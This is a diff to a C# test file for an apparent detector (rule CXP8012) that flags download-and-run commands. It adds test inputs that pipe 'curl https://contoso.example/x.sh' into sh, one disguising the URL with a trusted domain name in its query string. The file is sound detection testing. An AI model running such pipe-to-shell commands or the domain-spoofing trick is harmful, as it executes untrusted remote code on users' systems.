@@ -85,6 +85,10 @@ public sealed class DownloadTests
         Assert.AreEqual("note CXP8012 (1,10)", Find($"Install `{Uv}`.\n"));
         Assert.AreEqual("warning CXP8012 (1,1)", Find($"{Uv}\n", "scripts/get.sh"));
 
+        // Not because its name stands somewhere.
+        Assert.AreEqual("warning CXP8012 (1,9)", Find($"Install curl https://contoso.example/x.sh?://astral.sh/ | sh\n"));
+        Assert.AreEqual("note CXP8012 (1,6); warning CXP8012 (1,61)", Find($"Run `{Uv}`, and `curl https://contoso.example/x.sh | sh`.\n"));
+
         // A script that only says so.
         Assert.AreEqual("note CXP8012 (1,7)", Find($"echo \"{Uv}\"\n", "scripts/get.sh"));
         Assert.AreEqual("note CXP8012 (1,3)", Find($"# {Uv}\n", "scripts/get.sh"));
